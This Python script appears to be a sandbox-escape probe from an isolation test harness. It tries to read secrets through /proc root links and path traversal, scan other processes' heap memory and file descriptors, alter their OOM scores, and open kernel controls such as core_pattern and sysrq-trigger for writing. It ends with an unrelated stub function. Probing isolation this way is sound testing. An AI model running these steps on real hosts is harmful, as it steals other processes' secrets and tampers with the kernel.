# ruff: noqa
"""/proc: other roots and working folders, memory, scores of the OOM killer, switches of the kernel."""

FILE = HOST["file"]


def poke(pid):
    for place in (f"/proc/{pid}/root", f"/proc/{pid}/cwd/" + "../" * 12):
        leak(attempt(lambda: open(place + HOST["secret"]).read()) or "")
        attempt(lambda: open(place + FILE, "a").write("through /proc"))
    for name in (
        "oom_score_adj",
        "oom_adj",
        "coredump_filter",
        "clear_refs",
        "autogroup",
        "timerslack_ns",
        "comm",
    ):
        value = {"oom_score_adj": "700", "comm": "hx-renamed", "clear_refs": "1"}.get(name, "0")
        if attempt(lambda: open(f"/proc/{pid}/{name}", "w").write(value)) and pid != os.getpid():
            breach(f"{name} of another process")
    for one in descriptors():
        found = attempt(lambda: os.open(f"/proc/{pid}/fd/{one}", os.O_RDONLY | os.O_NONBLOCK))
        if found is not None:
            leak(attempt(os.pread, found, 4096, 0) or b"")
            attempt(os.close, found)
    leak(attempt(memory, pid) or b"")


def memory(pid):
    """A heap that belongs to another, searched for secrets."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as file:
        for line in maps:
            if "[heap]" in line or "rw-p 00000000 00:00" in line:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                file.seek(start)
                if leak(attempt(file.read, min(end - start, 16 << 20)) or b""):
                    return b""


def switches():
    for path in (
        "/proc/sysrq-trigger",
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/vm/drop_caches",
        "/proc/sys/kernel/hostname",
        "/proc/sys/kernel/modprobe",
        "/sys/kernel/uevent_helper",
    ):
        if attempt(os.open, path, os.O_WRONLY) is not None:
            breach(path)


attempt(lambda: open("/proc/self/oom_score_adj", "w").write("-1"))
for pid in targets():
    attempt(poke, pid)
attempt(switches)


def largest(numbers):
    return said()
